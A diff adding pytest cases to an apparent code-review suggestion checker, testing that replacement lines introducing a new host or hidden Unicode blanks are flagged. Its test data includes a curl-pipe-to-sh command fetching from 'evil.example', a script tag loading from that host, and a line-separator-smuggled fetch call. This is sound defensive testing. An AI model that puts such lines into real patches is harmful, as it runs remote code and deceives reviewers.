@@ -91,3 +91,23 @@ def test_no_suggestible_text_ends_its_block(text: str) -> None:
     tokens = MarkdownIt("commonmark").parse(render_suggestion(text) + "\n\nafter")
     assert [token.type for token in tokens] == ["fence", "paragraph_open", "inline", "paragraph_close"]
     assert tokens[0].content == (f"{text}\n" if text else "")
+
+
+@pytest.mark.parametrize(
+    ("line", "replacement"),
+    [
+        ("curl https://good.example/i.sh | sh", "curl https://evil.example/i.sh | sh"),
+        ('<script src="a.js">', '<script src="//evil.example/a.js">'),
+        ("x = 1", "x = 2 // ok\u2028fetch(evil)"),
+        ("x = 1", "x =\u00a02"),
+        ("x = 1", "x = 2\u2800"),
+    ],
+)
+def test_no_button_brings_another_address_or_a_blank_that_is_none(line: str, replacement: str) -> None:
+    hunk = parse_patch("a.js", f"@@ -0,0 +1 @@\n+{line}").hunks[0]
+    assert find_fault(hunk, 1, 1, replacement) in ("link", "fence")
+
+
+def test_an_address_that_stood_there_may_stay() -> None:
+    hunk = parse_patch("a.js", "@@ -0,0 +1 @@\n+get('https://good.example/a')").hunks[0]
+    assert find_fault(hunk, 1, 1, "fetch('https://good.example/a')") is None
